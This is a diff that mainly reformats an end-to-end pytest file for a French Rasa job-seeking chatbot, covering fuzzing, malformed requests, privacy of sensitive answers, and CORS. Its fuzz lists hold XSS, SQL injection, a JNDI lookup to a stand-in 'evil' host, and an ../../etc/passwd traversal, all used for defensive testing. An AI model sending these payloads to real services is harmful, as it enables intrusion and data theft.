@@ -20,7 +20,6 @@ from __future__ import annotations
 import json
 import os
 import random
-import re
 import signal
 import sqlite3
 import time
@@ -32,12 +31,23 @@ from typing import Any, Dict, List, Optional, Tuple
 
 import pytest
 
-from aiguillage.resilience import DEFAULT_TIMEOUT as ACTION_TIMEOUT
-from tests.support.dialogue import (TECHNICAL_PROBLEM_MARK, Person, is_french, post, question_asked, reach_suggestions,
-                                    reply_problems, reply_texts, say_ok)
-from tests.support.stack import LOCAL_WEB_ORIGIN as ALLOWED_ORIGIN, BotStack, http_json
+from aiguillage.rasa.resilience import DEFAULT_TIMEOUT as ACTION_TIMEOUT
+from tests.support.dialogue import (
+    TECHNICAL_PROBLEM_MARK,
+    Person,
+    is_french,
+    post,
+    question_asked,
+    reach_suggestions,
+    reply_problems,
+    reply_texts,
+    say_ok,
+)
+from tests.support.stack import LOCAL_WEB_ORIGIN as ALLOWED_ORIGIN
+from tests.support.stack import BotStack, http_json
 
 pytestmark = pytest.mark.e2e
+
 
 def log_text(bot: BotStack, name: str) -> str:
     return (bot.workdir / f"{name}.log").read_text(errors="replace")
@@ -46,37 +56,138 @@ def log_text(bot: BotStack, name: str) -> str:
 def assert_no_failure_in_logs(bot: BotStack) -> None:
     actions, rasa = log_text(bot, "actions"), log_text(bot, "rasa")
     assert "Traceback" not in actions and " ERROR " not in actions, actions[-3000:]
-    for marker in ("Traceback", "Encountered an exception", "Serveur d'actions indisponible", "Failed to execute custom action"):
-        assert marker not in rasa, rasa[rasa.find(marker) - 1500: rasa.find(marker) + 1500]
+    for marker in (
+        "Traceback",
+        "Encountered an exception",
+        "Serveur d'actions indisponible",
+        "Failed to execute custom action",
+    ):
+        assert marker not in rasa, rasa[rasa.find(marker) - 1500 : rasa.find(marker) + 1500]
 
 
 # ------------------------------------------------------------------------------------------- fuzz
 
 PAYLOADS = [
-    "/restart", "/back", "/session_start", "/nlu_fallback", "/out_of_scope", "/inexistant", "/", "//", "/ ",
-    '/inform{"age": -1}', '/inform{"age": 1e999}', '/inform{"age": "NaN"}', '/inform{"age": [1, 2]}', '/inform{"age": null}',
-    '/inform{"commune": "<script>"}', '/inform{"commune": "<script>alert(1)</script>"}', '/inform{"code_insee": "00000"}',
-    '/inform{"code_insee": "../../etc/passwd"}', '/inform{"besoin": "<img src=x onerror=alert(1)>"}', '/inform{"logement": "chateau"}',
-    '/inform{"handicap": {"a": 1}}', '/inform{"permis": "peut-être"}', '/inform{', '/inform{"age": }', '/inform{"age": 19',
-    '/ask_details{"suggestion": "../../x"}', '/ask_why_suggestion{"suggestion": 5}', "/request_summary", "/change_answer",
-    "/decline", "/affirm", "/deny", "/dont_know", '/ask_definition{"terme": "<b>RQTH</b>"}', '/inform{"naissance": "31/02/2099"}',
-    "/start_over", "/stop", "/greet", '/inform{"quartier": "' + "q" * 500 + '"}',
+    "/restart",
+    "/back",
+    "/session_start",
+    "/nlu_fallback",
+    "/out_of_scope",
+    "/inexistant",
+    "/",
+    "//",
+    "/ ",
+    '/inform{"age": -1}',
+    '/inform{"age": 1e999}',
+    '/inform{"age": "NaN"}',
+    '/inform{"age": [1, 2]}',
+    '/inform{"age": null}',
+    '/inform{"commune": "<script>"}',
+    '/inform{"commune": "<script>alert(1)</script>"}',
+    '/inform{"code_insee": "00000"}',
+    '/inform{"code_insee": "../../etc/passwd"}',
+    '/inform{"besoin": "<img src=x onerror=alert(1)>"}',
+    '/inform{"logement": "chateau"}',
+    '/inform{"handicap": {"a": 1}}',
+    '/inform{"permis": "peut-être"}',
+    "/inform{",
+    '/inform{"age": }',
+    '/inform{"age": 19',
+    '/ask_details{"suggestion": "../../x"}',
+    '/ask_why_suggestion{"suggestion": 5}',
+    "/request_summary",
+    "/change_answer",
+    "/decline",
+    "/affirm",
+    "/deny",
+    "/dont_know",
+    '/ask_definition{"terme": "<b>RQTH</b>"}',
+    '/inform{"naissance": "31/02/2099"}',
+    "/start_over",
+    "/stop",
+    "/greet",
+    '/inform{"quartier": "' + "q" * 500 + '"}',
 ]
-MARKUP = ["<script>alert('x')</script>", "<img src=x onerror=alert(1)>", "<b>bonjour</b>", "javascript:alert(1)",
-          "{{7*7}}", "${jndi:ldap://evil/x}", "<!--", "]]>", "&lt;&gt;&amp;", "<iframe src=//evil>"]
-SQL = ["'; DROP TABLE events; --", "\" OR 1=1 --", "1; SELECT * FROM events", "Robert'); DROP TABLE students;--",
-       "' UNION SELECT sender_id, data FROM events --"]
-LANGUAGES = ["مرحبا، أبحث عن عمل", "שלום, אני מחפש עבודה", "你好，我在找工作", "Привет, я ищу работу", "Hello, I'm looking for a job",
-             "Hola, busco trabajo", "Merhaba, iş arıyorum", "Γεια σας", "नमस्ते", "こんにちは"]
+MARKUP = [
+    "<script>alert('x')</script>",
+    "<img src=x onerror=alert(1)>",
+    "<b>bonjour</b>",
+    "javascript:alert(1)",
+    "{{7*7}}",
+    "${jndi:ldap://evil/x}",
+    "<!--",
+    "]]>",
+    "&lt;&gt;&amp;",
+    "<iframe src=//evil>",
+]
+SQL = [
+    "'; DROP TABLE events; --",
+    '" OR 1=1 --',
+    "1; SELECT * FROM events",
+    "Robert'); DROP TABLE students;--",
+    "' UNION SELECT sender_id, data FROM events --",
+]
+LANGUAGES = [
+    "مرحبا، أبحث عن عمل",
+    "שלום, אני מחפש עבודה",
+    "你好，我在找工作",
+    "Привет, я ищу работу",
+    "Hello, I'm looking for a job",
+    "Hola, busco trabajo",
+    "Merhaba, iş arıyorum",
+    "Γεια σας",
+    "नमस्ते",
+    "こんにちは",
+]
 EMOJI = ["😀", "😀😀😀😀", "🏳️‍🌈", "👍🏽👍🏽", "🤖💬🚗🏠", "❤️" * 50, "🇫🇷"]
-CONTROL = ["\u0000", "\u0000\u0001\u0002\u0003", "\x1b[2J\x1b[31mrouge", "\u0007\u0008", "ligne\r\nligne", "\t\t\t", "\u200b\u200c\u200d",
-           "\ufeffbonjour", "\udcff".encode("utf-8", "surrogatepass").decode("utf-8", "replace")]
+CONTROL = [
+    "\u0000",
+    "\u0000\u0001\u0002\u0003",
+    "\x1b[2J\x1b[31mrouge",
+    "\u0007\u0008",
+    "ligne\r\nligne",
+    "\t\t\t",
+    "\u200b\u200c\u200d",
+    "\ufeffbonjour",
+    "\udcff".encode("utf-8", "surrogatepass").decode("utf-8", "replace"),
+]
 RTL = ["\u202eruoj nob", "\u200fمرحبا\u200f 19 ans", "\u202bשלום\u202c Fougères", "abc\u202edef\u202cghi"]
-DIGITS = ["0", "7", "19", "-1", "150", "35300", "123456789", "99999999999999999999999", "3.14", "1e308", "١٩", "٣٥٣٠٠", "0x1F"]
+DIGITS = [
+    "0",
+    "7",
+    "19",
+    "-1",
+    "150",
+    "35300",
+    "123456789",
+    "99999999999999999999999",
+    "3.14",
+    "1e308",
+    "١٩",
+    "٣٥٣٠٠",
+    "0x1F",
+]
 WORDS = ["anticonstitutionnellement" * 40, "a" * 2000, "ah" * 1000, "x" * 500 + " " + "y" * 500]
-REALISTIC = ["bonjour", "je cherche un emploi", "j'ai 19 ans", "Fougères", "non", "oui", "je sais pas", "c'est quoi la rqth ?",
-             "pourquoi cette question ?", "merci", "t'es un robot ?", "je préfère ne pas répondre", "recommencer",
-             "en fait j'ai 20 ans", "j'habite à Lyon", "chez mes parents", "g pa le permi", "parler à quelqu'un"]
+REALISTIC = [
+    "bonjour",
+    "je cherche un emploi",
+    "j'ai 19 ans",
+    "Fougères",
+    "non",
+    "oui",
+    "je sais pas",
+    "c'est quoi la rqth ?",
+    "pourquoi cette question ?",
+    "merci",
+    "t'es un robot ?",
+    "je préfère ne pas répondre",
+    "recommencer",
+    "en fait j'ai 20 ans",
+    "j'habite à Lyon",
+    "chez mes parents",
+    "g pa le permi",
+    "parler à quelqu'un",
+]
 
 
 def long_message(rng: random.Random) -> str:
@@ -92,17 +203,40 @@ def fuzz_message(rng: random.Random) -> Any:
     """One generated message; about one in four is an ordinary answer, so that the questionnaire moves on
     and the odd messages arrive at every question."""
     category = rng.choices(
-        ["empty", "space", "long", "emoji", "language", "markup", "sql", "control", "rtl", "digits", "word", "payload",
-         "mixed", "realistic"],
+        [
+            "empty",
+            "space",
+            "long",
+            "emoji",
+            "language",
+            "markup",
+            "sql",
+            "control",
+            "rtl",
+            "digits",
+            "word",
+            "payload",
+            "mixed",
+            "realistic",
+        ],
         weights=[3, 3, 2, 4, 4, 4, 3, 4, 3, 5, 2, 12, 6, 25],
     )[0]
     pick = {
-        "empty": lambda: "", "space": lambda: rng.choice([" ", "\n", " \t \n ", "\u00a0", "\u3000"]),
-        "long": lambda: long_message(rng), "emoji": lambda: rng.choice(EMOJI), "language": lambda: rng.choice(LANGUAGES),
-        "markup": lambda: rng.choice(MARKUP), "sql": lambda: rng.choice(SQL), "control": lambda: rng.choice(CONTROL),
-        "rtl": lambda: rng.choice(RTL), "digits": lambda: rng.choice(DIGITS), "word": lambda: rng.choice(WORDS),
+        "empty": lambda: "",
+        "space": lambda: rng.choice([" ", "\n", " \t \n ", "\u00a0", "\u3000"]),
+        "long": lambda: long_message(rng),
+        "emoji": lambda: rng.choice(EMOJI),
+        "language": lambda: rng.choice(LANGUAGES),
+        "markup": lambda: rng.choice(MARKUP),
+        "sql": lambda: rng.choice(SQL),
+        "control": lambda: rng.choice(CONTROL),
+        "rtl": lambda: rng.choice(RTL),
+        "digits": lambda: rng.choice(DIGITS),
+        "word": lambda: rng.choice(WORDS),
         "payload": lambda: rng.choice(PAYLOADS),
-        "mixed": lambda: " ".join(rng.choice(REALISTIC + MARKUP + EMOJI + DIGITS + SQL) for _ in range(rng.randint(2, 5))),
+        "mixed": lambda: " ".join(
+            rng.choice(REALISTIC + MARKUP + EMOJI + DIGITS + SQL) for _ in range(rng.randint(2, 5))
+        ),
         "realistic": lambda: rng.choice(REALISTIC),
     }
     return pick[category]()
@@ -139,11 +273,15 @@ def fuzz_conversation(bot: BotStack, index: int, deadline: float) -> Dict[str, A
 def test_fuzzed_messages_never_break_a_conversation(bot):
     started = time.monotonic()
     with ThreadPoolExecutor(FUZZ_CONVERSATIONS) as pool:
-        results = list(pool.map(lambda i: fuzz_conversation(bot, i, started + FUZZ_DEADLINE), range(FUZZ_CONVERSATIONS)))
+        results = list(
+            pool.map(lambda i: fuzz_conversation(bot, i, started + FUZZ_DEADLINE), range(FUZZ_CONVERSATIONS))
+        )
     elapsed = time.monotonic() - started
     failures = [f"{r['sender']}: {f}" for r in results for f in r["failures"]]
-    summary = (f"fuzz: {FUZZ_CONVERSATIONS * FUZZ_MESSAGES_EACH} messages in {elapsed:.0f} s, "
-               f"slowest answer {max(r['slowest'] for r in results):.1f} s, {len(failures)} problems")
+    summary = (
+        f"fuzz: {FUZZ_CONVERSATIONS * FUZZ_MESSAGES_EACH} messages in {elapsed:.0f} s, "
+        f"slowest answer {max(r['slowest'] for r in results):.1f} s, {len(failures)} problems"
+    )
     print("\n" + summary)
     (bot.workdir / "fuzz.txt").write_text(summary + "\n" + "\n".join(failures) + "\n", encoding="utf-8")
     assert not failures, f"{len(failures)} problems:\n" + "\n".join(failures[:40])
@@ -153,14 +291,26 @@ def test_fuzzed_messages_never_break_a_conversation(bot):
 def test_malformed_requests_get_a_400_not_a_shared_conversation_or_a_500(bot):
     """Rasa alone would answer these 200 (without « sender »: everyone's shared "default" conversation;
     without a text message: an empty answer) or 500 (a body that is not an object)."""
-    for body in [{"sender": "x"}, {"message": "bonjour"}, {"sender": None, "message": "bonjour"}, {"sender": "", "message": "bonjour"},
-                 {"sender": "x", "message": None}, {"sender": "x", "message": 12}, {"sender": "x", "message": ["a"]},
-                 {"sender": "x" * 5000, "message": "bonjour"}, [], "texte", None]:
+    for body in [
+        {"sender": "x"},
+        {"message": "bonjour"},
+        {"sender": None, "message": "bonjour"},
+        {"sender": "", "message": "bonjour"},
+        {"sender": "x", "message": None},
+        {"sender": "x", "message": 12},
+        {"sender": "x", "message": ["a"]},
+        {"sender": "x" * 5000, "message": "bonjour"},
+        [],
+        "texte",
+        None,
+    ]:
         status, answer = status_and_body(f"{bot.url}/webhooks/rest/webhook", json.dumps(body).encode())
         assert status == 400, (body, status, answer)
     status, answer = status_and_body(f"{bot.url}/webhooks/rest/webhook", b"{not json")
     assert status == 400, answer
-    status, _ = status_and_body(f"{bot.url}/webhooks/rest/webhook", json.dumps({"sender": "gros", "message": "x" * 2_000_000}).encode())
+    status, _ = status_and_body(
+        f"{bot.url}/webhooks/rest/webhook", json.dumps({"sender": "gros", "message": "x" * 2_000_000}).encode()
+    )
     assert status == 413
     assert "Traceback" not in log_text(bot, "rasa")
 
@@ -226,7 +376,13 @@ def test_declining_a_question_moves_on(bot):
 # ------------------------------------------------------------------------------------------- privacy
 
 # (« je dors à la rue » is a danger: the safety layer answers it and masks it, tests/e2e/test_safety.py.)
-SENSITIVE = ["j'ai la rqth", "je suis hébergée chez une copine", "je sors de prison", "j'ai fait de la prison", "je suis sous bracelet électronique"]
+SENSITIVE = [
+    "j'ai la rqth",
+    "je suis hébergée chez une copine",
+    "je sors de prison",
+    "j'ai fait de la prison",
+    "je suis sous bracelet électronique",
+]
 
 
 def test_sensitive_answers_never_reach_the_logs(bot):
@@ -261,8 +417,13 @@ def in_database_file(bot: BotStack, text: str) -> bool:
 def test_erase_my_data_leaves_nothing_in_the_database(bot):
     sender = f"effacer-{uuid.uuid4().hex[:8]}"
     # Phrases no other test sends: the whole file is searched.
-    said = ["bonjour", "je cherche un emploi dans la logistique", "j'ai 23 ans", "j'habite à Vaulx-en-Velin",
-            "je dors chez un pote depuis avril"]
+    said = [
+        "bonjour",
+        "je cherche un emploi dans la logistique",
+        "j'ai 23 ans",
+        "j'habite à Vaulx-en-Velin",
+        "je dors chez un pote depuis avril",
+    ]
     for message in said:
         say_ok(bot, sender, message)
     assert bot.slots(sender)["commune"] == "Vaulx-en-Velin"
@@ -288,10 +449,21 @@ def test_an_expired_session_starts_again_without_slots(bot):
         {"event": "action", "name": "action_session_start", "timestamp": old},
         {"event": "session_started", "timestamp": old + 0.01},
         {"event": "action", "name": "action_listen", "timestamp": old + 0.02},
-        {"event": "user", "text": "j'ai 19 ans, j'habite à Fougères et je dors dans ma voiture", "timestamp": old + 0.03,
-         "parse_data": {"intent": {"name": "inform", "confidence": 1.0}, "entities": []}},
-        *[{"event": "slot", "name": name, "value": value, "timestamp": old + 0.04}
-          for name, value in {"age": 19.0, "commune": "Fougères", "code_insee": "35115", "logement": "sans-domicile"}.items()],
+        {
+            "event": "user",
+            "text": "j'ai 19 ans, j'habite à Fougères et je dors dans ma voiture",
+            "timestamp": old + 0.03,
+            "parse_data": {"intent": {"name": "inform", "confidence": 1.0}, "entities": []},
+        },
+        *[
+            {"event": "slot", "name": name, "value": value, "timestamp": old + 0.04}
+            for name, value in {
+                "age": 19.0,
+                "commune": "Fougères",
+                "code_insee": "35115",
+                "logement": "sans-domicile",
+            }.items()
+        ],
         {"event": "action", "name": "action_listen", "timestamp": old + 0.05},
     ]
     http_json("PUT", f"{bot.url}/conversations/{sender}/tracker/events?token={bot.token}", events)
@@ -308,9 +480,13 @@ def test_an_expired_session_starts_again_without_slots(bot):
 # ------------------------------------------------------------------------------------------- security
 
 
-def status_of(method: str, url: str, headers: Optional[Dict[str, str]] = None, body: Any = None) -> Tuple[int, Dict[str, str]]:
+def status_of(
+    method: str, url: str, headers: Optional[Dict[str, str]] = None, body: Any = None
+) -> Tuple[int, Dict[str, str]]:
     data = None if body is None else json.dumps(body).encode()
-    request = urllib.request.Request(url, data=data, method=method, headers={"Content-Type": "application/json", **(headers or {})})
+    request = urllib.request.Request(
+        url, data=data, method=method, headers={"Content-Type": "application/json", **(headers or {})}
+    )
     try:
         with urllib.request.urlopen(request, timeout=30) as response:
             return response.status, dict(response.headers)
@@ -340,7 +516,9 @@ def test_cors_admits_only_the_configured_origin(bot):
     for origin in ["https://evil.example", "http://localhost:8081", "http://localhost:8080.evil.example", "null"]:
         status, headers = status_of("OPTIONS", webhook, headers={"Origin": origin, **preflight})
         assert headers.get("Access-Control-Allow-Origin") not in (origin, "*"), (origin, headers)
-        status, headers = status_of("POST", webhook, headers={"Origin": origin}, body={"sender": "cors", "message": "bonjour"})
+        status, headers = status_of(
+            "POST", webhook, headers={"Origin": origin}, body={"sender": "cors", "message": "bonjour"}
+        )
         assert headers.get("Access-Control-Allow-Origin") not in (origin, "*"), (origin, headers)
 
 
